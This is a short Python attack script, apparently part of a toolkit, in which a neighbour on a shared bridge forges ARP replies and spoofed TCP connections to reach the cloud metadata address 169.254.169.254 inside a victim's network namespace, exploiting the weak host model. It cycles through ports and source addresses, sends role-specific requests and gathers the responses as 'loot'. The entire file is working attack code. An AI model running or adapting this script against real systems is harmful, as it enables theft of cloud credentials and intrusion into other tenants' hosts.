"""A neighbour on the bridge sends to the metadata address, but into the victim's own network namespace: whoever listens on
the loopback of a namespace can be reached by its other links (weak host model).

Its packets come from an address of the bridge that nobody has, or from one that is the victim's own.
"""

import ipaddress
import random

from frames import MADE_UP, Impostor, Loot, Wire, arguments, mac, request_for

told = arguments(__doc__, (["--ports"], dict(default="80", help="where to try: PORT,PORT …")))
wire = Wire()
victim_mac = mac(told.victim_mac)
# What goes through the gateway for everybody else goes to the victim here.
wire.gateway_mac = victim_mac
loot = Loot(told.role)
nobody = str(ipaddress.ip_interface(f"{told.victim}/24").network.broadcast_address - 5)


def here(ip):
    """Answers the question that the victim is about to ask: who has this address?"""
    def claim():
        wire.claim(ip, MADE_UP, victim_mac)
        wire.arp(2, MADE_UP, ip, victim_mac, told.victim, to=victim_mac)
    return claim


for number in range(told.tries):
    for port in [int(port) for port in told.ports.split(",")]:
        for ip in [nobody, told.victim, "169.254.169.254"]:
            loot.tries += 1
            wire.drain()
            client = Impostor(wire, ip, MADE_UP, random.randrange(20000, 32000), told.server, port)
            if client.connect(0.35, here(ip)):
                loot.connections += 1
                loot.answer(client.ask(request_for(told.role), 0.5, here(ip)))
                client.reset()
loot.print()
